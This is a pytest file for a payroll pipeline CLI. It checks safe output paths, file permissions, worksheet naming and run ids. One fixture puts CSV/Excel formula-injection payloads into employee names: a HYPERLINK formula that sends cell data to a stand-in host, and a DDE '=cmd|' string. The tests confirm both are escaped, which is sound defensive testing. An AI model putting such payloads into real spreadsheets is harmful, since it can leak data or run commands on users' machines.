"""Output folders never destroy anything (SPEC §8): refusals, replacement of eperf's own
outputs only, no hidden leftovers, owner-only personal files, formulas kept as text, valid
worksheet names, and run ids that differ when any input differs."""

from __future__ import annotations

import os
import shutil
import stat
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from typer.testing import CliRunner, Result

from pipelines.cli import app
from pipelines.finance.reports import sheet_names
from pipelines.month.outputs import leftovers, spreadsheet_safe
from tests.folders import snapshot
from tests.messages import messages
from tests.pipelines.editing import PERIOD, copy_city, needs_example, read_rows, write_rows

pytestmark = needs_example

runner = CliRunner()


def eperf(*args: str) -> Result:
    return runner.invoke(app, list(args))


def assert_refused(result: Result, *words: str) -> None:
    assert result.exit_code == 2, result.output
    [line] = messages(result.stderr)
    for word in words:
        assert word in line
    assert "Traceback" not in result.output


def run(data: Path, out: Path) -> Result:
    return eperf("run", "--data", str(data), "--period", PERIOD, "--out", str(out))


# --- eperf run --data … --out -------------------------------------------------------------

@pytest.mark.parametrize(("where", "words"), [
    ("data", ("is, holds or lies inside the data directory",)),
    ("data/hr", ("lies inside the data directory",)),
    (".", ("holds", "the data directory")),
    ("notes.txt", ("is a file",)),
    ("laporan", ("did not write as a run output",)),
])
def test_run_refuses_a_path_it_would_damage(tmp_path: Path, where: str, words: tuple[str, ...]) -> None:
    data = copy_city(tmp_path)
    (tmp_path / "notes.txt").write_text("rapat BKPSDM\n")
    (tmp_path / "laporan").mkdir()
    (tmp_path / "laporan" / "keep.txt").write_text("jangan dihapus\n")
    before = snapshot(tmp_path)
    assert_refused(run(data, tmp_path / where), *words)
    assert snapshot(tmp_path) == before


def test_run_refuses_a_path_it_cannot_write(tmp_path: Path) -> None:
    data = copy_city(tmp_path)
    assert_refused(run(data, Path("/proc/eperf-out")), "cannot write here")


def test_a_run_replaces_only_an_earlier_run_and_leaves_nothing_hidden(tmp_path: Path) -> None:
    data = copy_city(tmp_path)
    out = tmp_path / "out"
    assert run(data, out).exit_code == 0
    first = snapshot(out, ("manifest.json",))
    assert run(data, out).exit_code == 0
    assert snapshot(out, ("manifest.json",)) == first
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
    (out / "manifest.json").write_text('{"kind": "reconciliation"}')  # now another kind's folder
    assert_refused(run(data, out), "did not write as a run output")


def test_what_a_killed_writer_left_is_cleaned_by_the_next(tmp_path: Path) -> None:
    data = copy_city(tmp_path)
    out = tmp_path / "out"
    stale = tmp_path / ".out.eperf-0123456789ab"
    stale.mkdir()
    (stale / "pay_register.csv").write_text("half")
    assert leftovers(out) == [stale]
    assert run(data, out).exit_code == 0
    assert leftovers(out) == []


def test_an_empty_folder_may_receive_a_run(tmp_path: Path) -> None:
    data = copy_city(tmp_path)
    (tmp_path / "kosong").mkdir()
    assert run(data, tmp_path / "kosong").exit_code == 0


# --- the warehouse's commands -------------------------------------------------------------

@pytest.fixture(scope="module")
def locked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse holding city-9004 with its month locked (names with formulas in them)."""
    root = tmp_path_factory.mktemp("locked")
    data = copy_city(root)
    header, rows = read_rows(data, "hr/employees.csv")
    rows[0][header.index("name")] = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    rows[1][header.index("name")] = "\t=cmd|'/C calc'!A0"
    rows[2][header.index("name")] = "+62 812 555"
    write_rows(data, "hr/employees.csv", header, rows)
    store = root / "wh" / "warehouse.duckdb"
    for args in (["ingest", "--data", str(data)], ["run", "--period", PERIOD], ["approve", "--period", PERIOD],
                 ["lock", "--period", PERIOD]):
        assert eperf(*args, "--warehouse", str(store)).exit_code == 0
    return store


def copy_store(store: Path, tmp_path: Path) -> Path:
    target = tmp_path / "wh"
    shutil.copytree(store.parent, target)
    return target / store.name


def test_the_warehouse_and_the_bank_file_are_the_owners_alone(locked: Path, tmp_path: Path) -> None:
    assert stat.S_IMODE(locked.stat().st_mode) == 0o600
    assert stat.S_IMODE(locked.parent.stat().st_mode) == 0o700
    store = copy_store(locked, tmp_path)
    bank = tmp_path / "keuangan" / "bank.csv"
    assert eperf("bankfile", "--period", PERIOD, "--out", str(bank), "--warehouse", str(store)).exit_code == 0
    assert stat.S_IMODE(bank.stat().st_mode) == 0o600
    assert stat.S_IMODE(bank.parent.stat().st_mode) == 0o700
    for mirrored in (store.with_suffix("")).rglob("*.parquet"):
        assert stat.S_IMODE(mirrored.stat().st_mode) == 0o600


def test_names_that_look_like_formulas_stay_text(locked: Path, tmp_path: Path) -> None:
    store = copy_store(locked, tmp_path)
    bank = tmp_path / "bank.csv"
    assert eperf("bankfile", "--period", PERIOD, "--out", str(bank), "--warehouse", str(store)).exit_code == 0
    names = pl.read_csv(bank, infer_schema=False)["name"].drop_nulls().to_list()
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")" in names
    assert "'=cmd|'/C calc'!A0" in names  # the tab went with the spaces around the cell
    report = tmp_path / "laporan"
    assert eperf("report", "--period", PERIOD, "--out", str(report), "--warehouse", str(store)).exit_code == 0
    book = openpyxl.load_workbook(report / "nominatif.xlsx")
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert any(isinstance(c.value, str) and c.value.startswith("=") for c in cells)  # a masked "=HYPERLINK…"
    assert any(isinstance(c.value, int | float) and c.value > 0 for c in cells)  # numbers stay numbers


def test_formula_starts_are_quoted_and_numbers_are_not() -> None:
    frame = pl.DataFrame({"name": ["=1+1", "+62", "-x", "@sum", "\tx", "\rx", "Sri", None], "net_rp": [-5] * 8})
    safe = spreadsheet_safe(frame)
    assert safe["name"].to_list() == ["'=1+1", "'+62", "'-x", "'@sum", "'\tx", "'\rx", "Sri", None]
    assert safe["net_rp"].to_list() == [-5] * 8


@pytest.mark.parametrize(("command", "out", "words"), [
    ("bankfile", "dir", ("is a folder", "give a file path")),
    ("bankfile", "notes.txt", ("eperf did not write as a bank file",)),
    ("bankfile", "wh", ("the warehouse",)),
    ("export", "wh/warehouse", ("the warehouse's Parquet mirror",)),
    ("export", "wh", ("holds", "the warehouse")),
    ("reconcile", "laporan", ("did not write as a reconciliation output",)),
    ("report", "notes.txt", ("is a file",)),
    ("adjust", ".", ("holds", "the warehouse")),
])
def test_warehouse_commands_refuse_what_they_would_damage(locked: Path, tmp_path: Path, command: str, out: str,
                                                          words: tuple[str, ...]) -> None:
    store = copy_store(locked, tmp_path)
    (tmp_path / "dir").mkdir()
    (tmp_path / "notes.txt").write_text("rapat\n")
    (tmp_path / "laporan").mkdir()
    (tmp_path / "laporan" / "keep.txt").write_text("jangan dihapus\n")
    before = snapshot(tmp_path)
    assert_refused(eperf(command, "--period", PERIOD, "--out", str(tmp_path / out), "--warehouse", str(store)), *words)
    assert snapshot(tmp_path) == before


def test_a_bank_file_replaces_only_a_bank_file(locked: Path, tmp_path: Path) -> None:
    store = copy_store(locked, tmp_path)
    bank = tmp_path / "bank.csv"
    for _ in range(2):
        assert eperf("bankfile", "--period", PERIOD, "--out", str(bank), "--warehouse", str(store)).exit_code == 0
    assert leftovers(bank) == []
    audit = eperf("audit", "--warehouse", str(store)).output
    assert audit.count("bank file") == 2


# --- worksheet names and run ids ------------------------------------------------------------

def test_worksheet_names_are_valid_and_unique() -> None:
    codes = ["REKAP", "1.02.01/UPT", "rekap", "Dinas Pekerjaan Umum Bina Marga Bidang A",
             "Dinas Pekerjaan Umum Bina Marga Bidang B", "a:b*c?[d]\\e", "'"]
    names = sheet_names(codes)
    assert len({n.lower() for n in names.values()}) == len(codes)
    for name in names.values():
        assert 1 <= len(name) <= 31 and not set(name) & set("[]:*?/\\")


def test_a_report_of_awkward_opd_codes_opens(locked: Path, tmp_path: Path) -> None:
    root = tmp_path / "city"
    data = copy_city(root)
    long = "Dinas Pekerjaan Umum dan Penataan Ruang Bidang"
    header, rows = read_rows(data, "hr/positions.csv")
    codes = sorted({r[header.index("opd_code")] for r in rows})
    renamed = {c: f"{long} {c}" if i % 2 else c.replace(".", "/") for i, c in enumerate(codes)}
    for file in ("hr/employees.csv", "hr/positions.csv", "ebudgeting/apbd_lines.csv"):
        header, rows = read_rows(data, file)
        for r in rows:
            r[header.index("opd_code")] = renamed.get(r[header.index("opd_code")], r[header.index("opd_code")])
        write_rows(data, file, header, rows)
    store = tmp_path / "w" / "warehouse.duckdb"
    for args in (["ingest", "--data", str(data)], ["run", "--period", PERIOD],
                 ["report", "--period", PERIOD, "--out", str(tmp_path / "laporan")]):
        result = eperf(*args, "--warehouse", str(store))
        assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(tmp_path / "laporan" / "nominatif.xlsx")
    titles = [s.title for s in book.worksheets]
    assert len({t.lower() for t in titles}) == len(titles)
    firsts = [str(s["A1"].value) for s in book.worksheets[1:]]
    assert any(long in f for f in firsts) and any("/" in f for f in firsts)  # the OPD code kept in a cell


def test_warehouses_with_other_contents_give_other_run_ids(tmp_path: Path) -> None:
    ids = []
    for i, code in enumerate(("1.02.01", "1.02.99")):
        data = copy_city(tmp_path / f"c{i}")
        header, rows = read_rows(data, "hr/employees.csv")
        rows[0][header.index("opd_code")] = code
        write_rows(data, "hr/employees.csv", header, rows)
        store = tmp_path / f"w{i}" / "warehouse.duckdb"
        assert eperf("ingest", "--data", str(data), "--warehouse", str(store)).exit_code == 0
        ran = eperf("run", "--period", PERIOD, "--warehouse", str(store))
        ids.append(ran.stdout.splitlines()[0])
    assert ids[0] != ids[1]


def test_the_run_id_of_a_folder_covers_the_code_version(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import pipelines.month.run as monthly

    data = copy_city(tmp_path)
    one = run(data, tmp_path / "a")
    monkeypatch.setattr(monthly, "version", lambda name: "9.9.9")
    two = run(data, tmp_path / "b")
    assert one.exit_code == two.exit_code == 0
    read = [pl.read_parquet(tmp_path / x / "pay_register.parquet")["run_id"][0] for x in ("a", "b")]
    assert read[0] != read[1]


# --- paths the machine cannot take (issue 19) --------------------------------------------------

def _awkward(tmp_path: Path, what: str) -> Path:
    """A path that is a FIFO, a loop of links, or a name too long for its hidden twin."""
    if what == "fifo":
        os.mkfifo(tmp_path / "fifo")
        return tmp_path / "fifo"
    if what == "loop":
        (tmp_path / "loop").symlink_to("loop")
        return tmp_path / "loop"
    return tmp_path / ("x" * (236 if what == "name-236" else 240))


AWKWARD = [("fifo", "is neither a file nor a folder"), ("loop", "is a loop of symbolic links"),
           ("name-236", "the name is too long (236 bytes; at most 235"), ("name-240", "the name is too long")]


@pytest.mark.parametrize(("what", "words"), AWKWARD)
@pytest.mark.parametrize("command", ["bankfile", "export", "report"])
def test_a_path_the_machine_cannot_take_is_one_sentence(locked: Path, tmp_path: Path, command: str, what: str,
                                                        words: str) -> None:
    """``bankfile --out fifo`` once waited forever on the FIFO; a 240-character name and a loop
    of links ended in tracebacks. Nothing is written, nothing recorded, nothing left hidden."""
    store = copy_store(locked, tmp_path)
    out = _awkward(tmp_path, what)
    audit = eperf("audit", "--warehouse", str(store)).output
    assert_refused(eperf(command, "--period", PERIOD, "--out", str(out), "--warehouse", str(store)), words)
    assert eperf("audit", "--warehouse", str(store)).output == audit
    assert [p.name for p in tmp_path.iterdir() if ".eperf-" in p.name] == []


@pytest.mark.parametrize(("what", "words"), AWKWARD)
def test_a_run_to_a_path_the_machine_cannot_take_is_one_sentence(tmp_path: Path, what: str, words: str) -> None:
    data = copy_city(tmp_path)
    assert_refused(run(data, _awkward(tmp_path, what)), words)


def test_a_name_at_the_longest_the_machine_takes_is_written(locked: Path, tmp_path: Path) -> None:
    store = copy_store(locked, tmp_path)
    bank = tmp_path / ("b" * 231 + ".csv")  # 235 bytes: its hidden twin .<name>.eperf-<12> is 255
    assert eperf("bankfile", "--period", PERIOD, "--out", str(bank), "--warehouse", str(store)).exit_code == 0
    assert bank.is_file() and leftovers(bank) == []
